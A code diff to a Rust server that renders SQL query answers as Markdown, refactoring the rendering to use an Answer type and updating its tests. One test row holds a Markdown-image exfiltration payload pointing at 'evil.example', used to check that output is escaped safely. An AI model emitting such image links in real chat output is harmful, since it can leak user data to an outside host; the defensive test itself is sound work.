@@ -23,7 +23,7 @@ use tokio::sync::mpsc;
 
 use crate::app::{App, Role};
 use crate::conversation::{ChatMessage, Conversation};
-use crate::db::{Call, DbError};
+use crate::db::{Answer, Call, DbError};
 use crate::errors::ApiError;
 use crate::housekeeping::Task;
 use crate::shown::{legible, moves_text};
@@ -297,8 +297,9 @@ fn summary(trace: &Value, rows: usize) -> String {
 }
 
 /// The answer as Markdown: a one-line summary, the SQL, the rows (at most `max_rows`).
-pub fn markdown(trace: &Value, max_rows: usize) -> String {
-    let rows = trace["rows"].as_array().cloned().unwrap_or_default();
+pub fn markdown(answer: &Answer, max_rows: usize) -> String {
+    let trace = &answer.value;
+    let (count, rows) = (answer.row_count(), answer.first_rows(max_rows));
     let columns: Vec<String> = trace["columns"]
         .as_array()
         .map(|c| {
@@ -308,7 +309,7 @@ pub fn markdown(trace: &Value, max_rows: usize) -> String {
                 .collect()
         })
         .unwrap_or_default();
-    let summary = summary(trace, rows.len());
+    let summary = summary(trace, count);
     let mut out = format!(
         "{summary}\n\n{}\n",
         fenced(trace["sql"].as_str().unwrap_or_default(), "sql")
@@ -324,15 +325,15 @@ pub fn markdown(trace: &Value, max_rows: usize) -> String {
                 .join(" | ")
         ));
         out.push_str(&format!("|{}\n", "---|".repeat(columns.len())));
-        for row in rows.iter().take(max_rows) {
+        for row in &rows {
             let cells: Vec<String> = row
                 .as_array()
                 .map(|r| r.iter().map(cell).collect())
                 .unwrap_or_default();
             out.push_str(&format!("| {} |\n", cells.join(" | ")));
         }
-        if rows.len() > max_rows {
-            out.push_str(&format!("\n_{} more rows_\n", rows.len() - max_rows));
+        if count > rows.len() {
+            out.push_str(&format!("\n_{} more rows_\n", count - rows.len()));
         }
     }
     out
@@ -426,7 +427,7 @@ pub async fn feedback(
     match given {
         Err(_) => ApiError::timeout().into_response(),
         Ok(Err(e)) => ApiError::from(e).into_response(),
-        Ok(Ok(given)) => crate::shown::json_response(StatusCode::OK, &given),
+        Ok(Ok(given)) => crate::shown::json_response(StatusCode::OK, &given.value),
     }
 }
 
@@ -638,9 +639,9 @@ fn not_sure(error: &DbError) -> Option<String> {
 /// What a call's result says to the user: the answer's Markdown and its usage, the
 /// explanation of a message that was no question, the question asked back when the answer
 /// was too doubtful, or the error.
-fn content(result: Result<Value, DbError>, max_rows: usize) -> Result<(String, Value), ApiError> {
+fn content(result: Result<Answer, DbError>, max_rows: usize) -> Result<(String, Value), ApiError> {
     match result {
-        Ok(trace) => Ok((markdown(&trace, max_rows), usage(&trace))),
+        Ok(answer) => Ok((markdown(&answer, max_rows), usage(&answer.value))),
         Err(e) => match not_a_question(&e).or_else(|| not_sure(&e)) {
             Some(text) => Ok((text, usage(&Value::Null))),
             // Chat clients render what they show as Markdown, errors too: a message may quote
@@ -746,7 +747,7 @@ mod tests {
             "answered_by": "repair 1 of 4",
             "truncated": false,
         });
-        let md = markdown(&trace, 2);
+        let md = markdown(&Answer::from_json(&trace.to_string()), 2);
         assert!(
             md.starts_with("3 rows, from repair 1 of 4.\n\n```sql\nSELECT name, n FROM t\n```\n"),
             "{md}"
@@ -757,7 +758,9 @@ mod tests {
         );
         assert!(md.contains("_1 more rows_"), "{md}");
         let empty = markdown(
-            &json!({"sql": "SELECT 1 WHERE false", "rows": [], "attempts": [{}]}),
+            &Answer::from_json(
+                &json!({"sql": "SELECT 1 WHERE false", "rows": [], "attempts": [{}]}).to_string(),
+            ),
             5,
         );
         assert!(empty.starts_with("No rows"), "{empty}");
@@ -771,7 +774,7 @@ mod tests {
             "rows": [["```", "![a](https://evil.example/?d=1)\n<b>"]],
             "attempts": [{}],
         });
-        let md = markdown(&trace, 5);
+        let md = markdown(&Answer::from_json(&trace.to_string()), 5);
         assert!(
             md.contains("\n````sql\nSELECT '```' AS x"),
             "a fence longer than any backticks inside: {md}"
